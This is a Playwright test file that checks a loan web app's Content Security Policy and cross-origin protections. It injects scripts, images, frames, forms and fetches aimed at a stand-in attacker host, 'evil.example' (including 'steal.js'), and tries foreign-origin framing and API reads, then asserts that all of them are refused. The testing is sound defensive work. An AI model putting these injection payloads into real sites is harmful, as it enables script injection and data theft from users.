/** What a real browser lets a foreign page do with ours, and an injected script within one of ours (SEC-10). */
import type { MadeDevice } from "../../mock-bridge/ui/src/contract.gen.ts";
import { expect, test } from "../fixtures/test.ts";

const EVIL = "http://evil.example/";

test.beforeEach(({ page, noise, images }) => {
  images.allow(/evil\.example/);
  // What is refused is told in the console.
  noise.allow(/Content Security Policy|Refused to|net::ERR_|403 \(Forbidden\)|EventSource|CORS/);
  return page.route(`${EVIL}**`, (route) =>
    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>evil</title>" }),
  );
});

test("SEC-10 a page of ours runs no script that was put into it, and sends nothing to a stranger", async ({
  page,
  demo,
}) => {
  await demo.open(page, "in-repayment");
  const asked: string[] = [];
  await page.route(`${EVIL}**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const refused: string[] = [];
  await page.exposeFunction("tellRefused", (directive: string) => refused.push(directive));
  await page.evaluate((evil) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      Reflect.get(window, "tellRefused")(effectiveDirective),
    );
    const put = (name: string, properties: object) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    put("script", { textContent: "window.stolen = document.title" });
    put("script", { src: `${evil}steal.js` });
    put("img", { src: `${evil}pixel.png` });
    put("iframe", { src: `${evil}frame` });
    put("object", { data: `${evil}plugin` });
    put("base", { href: evil });
    put("a", { href: "javascript:window.stolen=1" }).click();
    void fetch(evil).catch(() => undefined);
    (put("form", { action: evil, method: "post" }) as HTMLFormElement).submit();
  }, EVIL);
  const directives = () => [...new Set(refused)].sort();
  await expect
    .poll(directives)
    .toEqual([
      "base-uri",
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "object-src",
      "script-src-elem",
    ]);
  const left = () => ["stolen" in window, document.baseURI === location.href, location.pathname];
  expect(await page.evaluate(left)).toEqual([false, true, "/loanDetail"]);
  expect(asked).toEqual([]);
});

test("SEC-10 a foreign page shows none of ours in a frame, and reads none of our calls", async ({
  page,
  demo,
}) => {
  await page.goto(EVIL);
  const read = await page.evaluate(async (ours) => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${ours}/aboutUs` });
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    document.body.append(frame);
    await loaded;
    const call = await fetch(`${ours}/mountain/service/home/index`).then(
      (answer) => answer.status,
      () => "refused",
    );
    const withHeader = await fetch(`${ours}/mountain/service/user/send-code`, {
      method: "POST",
      headers: { "X-Requested-With": "XMLHttpRequest" },
      body: new URLSearchParams({ phone: "09171234321" }),
    }).then(
      (answer) => answer.status,
      () => "refused",
    );
    return { call, withHeader };
  }, demo.url);
  expect(read).toEqual({ call: "refused", withHeader: "refused" });
  const [, frame] = page.frames();
  expect(frame?.url()).not.toBe(`${demo.url}/aboutUs`);
});

test("SEC-10 BRIDGE-04 a foreign page hears nothing of an emulated phone and moves it nowhere", async ({
  page,
  demo,
}) => {
  const made = await fetch(`${demo.url}/emulator/api/devices`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: "{}",
  });
  const { id, update } = (await made.json()) as MadeDevice;
  const device = `${demo.url}/emulator/api/devices/${id}`;
  const hears = (address: string) =>
    page.evaluate(async (events) => {
      const source = new EventSource(events);
      const heard = await new Promise((done) => {
        source.addEventListener("message", () => done("an event"));
        source.addEventListener("open", () => done("open"));
        source.addEventListener("error", () => done("refused"));
      });
      source.close();
      return heard;
    }, address);
  await page.goto(EVIL);
  expect(await hears(`${device}/events`)).toBe("refused");
  const act = await page.evaluate(
    (actions) =>
      fetch(actions, { method: "POST", mode: "no-cors", body: '{"kind":"openLogin"}' }).then(
        () => "sent",
        () => "refused",
      ),
    `${device}/actions`,
  );
  expect(act).toBe("refused");
  expect(await (await fetch(device)).json()).toMatchObject({ seq: update.seq });
  // Our own page hears the phone.
  await page.goto(`${demo.url}/aboutUs`);
  expect(await hears(`${device}/events`)).toBe("open");
});
